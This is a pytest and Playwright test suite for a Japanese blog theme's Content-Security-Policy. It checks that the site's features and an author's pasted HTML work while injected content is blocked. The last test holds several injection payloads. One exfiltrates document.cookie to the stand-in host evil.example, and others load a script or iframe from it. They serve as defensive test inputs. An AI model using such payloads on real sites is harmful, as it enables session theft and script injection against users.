"""The Content-Security-Policy in a browser: nothing of the site breaks it, and nothing else gets through."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.conftest import SAMPLE
from tests.site.pages import Site
from tests.site.test_browser import kinds, served
from tests.support import ROOT, SITEURL, Blog

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

_WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""

PASTED = """---
title: 貼りつけたもの
date: 2026-05-01
---
<p id="styled" style="color: rgb(1, 2, 3)">色のついた文</p>

<style>#sheet { color: rgb(4, 5, 6) }</style>
<p id="sheet">見た目を決めた文</p>

<button id="pressed" onclick="this.textContent = 'はい'">押す</button>

<script>document.documentElement.dataset.ran = "yes";</script>

<a href="https://px.a8.net/svt/ejp?a8mat=1" rel="nofollow">公式</a><img src="https://www13.a8.net/0.gif?a8mat=1" width="1" height="1" alt="">

<script>(function (d, u) { var s = d.createElement("script"); s.src = u; d.head.appendChild(s); })(document, "https://dn.msmstatic.com/site/cardlink/bundle.js");</script>
"""

Visit = Callable[[str], Page]


@pytest.fixture(scope="module")
def pasted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Serve the sample site with an article of pasted HTML."""
    blog = Blog(tmp_path_factory.mktemp("policy"))
    shutil.copytree(SAMPLE, blog.content)
    blog.write("content/articles/面接/haritsuke.md", PASTED)
    blog.conf(every_room=True)
    built = blog.build(theme=str(ROOT / "theme"))
    assert built.code == 0, built.stderr
    with served(Site(built.output, SITEURL)) as address:
        yield address


@pytest.fixture
def visit(browser: Browser) -> Iterator[Visit]:
    """Give what opens a page; other hosts answer with an empty picture, a script or a page."""
    contexts = []
    complaints: list[str] = []

    def open_page(address: str) -> Page:
        context = browser.new_context(locale="ja-JP")
        contexts.append(context)
        origin = "/".join(address.split("/")[:3])
        context.grant_permissions(["clipboard-read", "clipboard-write"], origin=origin)
        context.add_init_script(_WATCH)
        page = context.new_page()
        page.route(
            lambda url: not url.startswith(origin),
            lambda route: route.fulfill(
                content_type="text/javascript" if "js" in route.request.url else "text/html",
                body="window.loaded = true;" if "js" in route.request.url else "",
            ),
        )
        page.on(
            "console",
            lambda message: (
                complaints.append(message.text) if "Content Security Policy" in message.text else None
            ),
        )
        page.goto(address, wait_until="networkidle")
        return page

    yield open_page
    for context in contexts:
        for page in context.pages:
            assert page.evaluate("window.violations ?? []") == [], page.url
        context.close()
    assert complaints == []


def test_every_kind_of_page(browser: Browser, real_site: Site, sample_site: Site, visit: Visit) -> None:
    for site in (real_site, sample_site):
        with served(site) as address:
            for path in kinds(site).values():
                page = visit(address + path)
                assert page.locator("meta[http-equiv=Content-Security-Policy]").count() == 1, path
                assert page.evaluate("window.violations") == [], path


def test_every_page_has_a_policy_before_anything_that_loads(site: Site) -> None:
    for address, page in site.pages.items():
        start = page.html.partition('http-equiv="Content-Security-Policy"')
        assert start[1], address
        assert not any(tag in start[0] for tag in ("<script", "<link", "<style", "<img")), address


def test_the_parts_work(pasted: str, visit: Visit) -> None:
    page = visit(f"{pasted}/subete/")
    page.get_by_role("tab").nth(1).click()
    page.get_by_role("button", name="画面の明るさ").click()
    page.get_by_role("button", name="コピー").first.click()
    expect(page.locator("[role=status]", has_text="コピーしました").first).to_be_visible()
    page.locator("a[data-youtube]").first.click()
    expect(page.locator("iframe.video__player")).to_be_visible()
    expect(page.locator("iframe.video__player")).to_have_attribute("src", re.compile("youtube-nocookie"))


def test_the_search_works(pasted: str, visit: Visit) -> None:
    page = visit(f"{pasted}/")
    page.get_by_role("link", name="検索").click()
    page.locator('[data-search-panel="dialog"] input').fill("面接")
    expect(page.locator("[data-search-hits] li").first).to_be_visible()
    page = visit(f"{pasted}/search/?q=面接")
    expect(page.locator('[data-search-panel="page"] [data-search-hits] li').first).to_be_visible()


def test_what_a_writer_pasted_works(pasted: str, visit: Visit) -> None:
    page = visit(f"{pasted}/haritsuke/")
    assert page.locator("#styled").evaluate("each => getComputedStyle(each).color") == "rgb(1, 2, 3)"
    assert page.locator("#sheet").evaluate("each => getComputedStyle(each).color") == "rgb(4, 5, 6)"
    page.locator("#pressed").click()
    assert page.locator("#pressed").inner_text() == "はい"
    assert page.evaluate("document.documentElement.dataset.ran") == "yes"
    page.wait_for_function("window.loaded")


EXTRAS = """
extras:
  analytics: G-ABCDE12345
  adsense: ca-pub-1234567890123456
  contact:
    url: https://docs.google.com/forms/d/e/a/viewform?embedded=true
    embed: yes
  consent: |
    <script>window.asked = true;</script>
  snippets:
    - <script async src="https://stats.example/count.js"></script>
"""


def test_what_an_owner_switched_on_works(tmp_path: Path, visit: Visit) -> None:
    blog = Blog(tmp_path)
    shutil.copytree(SAMPLE, blog.content)
    data = (blog.content / "data" / "site.yaml").read_text(encoding="utf-8")
    blog.write("content/data/site.yaml", data + EXTRAS)
    blog.write("content/pages/contact.md", "---\ntitle: お問い合わせ\n---\n@[お問い合わせ]\n")
    blog.conf(every_room=True)
    built = blog.build(theme=str(ROOT / "theme"))
    assert built.code == 0, built.stderr
    with served(Site(built.output, SITEURL)) as address:
        for path in ("/", "/subete/", "/contact/", "/search/"):
            page = visit(address + path)
            page.wait_for_function("window.asked && window.loaded && window.dataLayer.length === 2")
        page = visit(f"{address}/contact/")
        page.locator("article iframe").scroll_into_view_if_needed()
        frame = page.locator("article iframe").element_handle().content_frame()
        assert frame is not None
        frame.wait_for_url("https://docs.google.com/**")
        box = page.locator("article iframe").bounding_box()
        assert box is not None
        assert box["height"] == 900, "as high as the owner says"


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.insertAdjacentHTML('beforeend', '<img src=/x onerror=\"window.hit = 1\">')",
        "document.head.appendChild(Object.assign(document.createElement('script'), {textContent: 'window.hit = 1'}))",
        "document.head.appendChild(Object.assign(document.createElement('script'), {src: 'https://evil.example/js'}))",
        "fetch('https://evil.example/?' + document.cookie).then(() => { window.hit = 1; }, () => {})",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.example/\"></iframe>')",
    ],
)
def test_what_somebody_else_put_in_does_not(browser: Browser, pasted: str, attack: str) -> None:
    context = browser.new_context()
    context.add_init_script(_WATCH)
    page = context.new_page()
    page.route("https://evil.example/**", lambda route: route.fulfill(body="window.hit = 1"))
    page.goto(f"{pasted}/junbi/")
    page.evaluate(f"() => {{ {attack}; }}")
    page.wait_for_function("window.violations.length > 0")
    assert page.evaluate("window.hit ?? 0") == 0
    context.close()
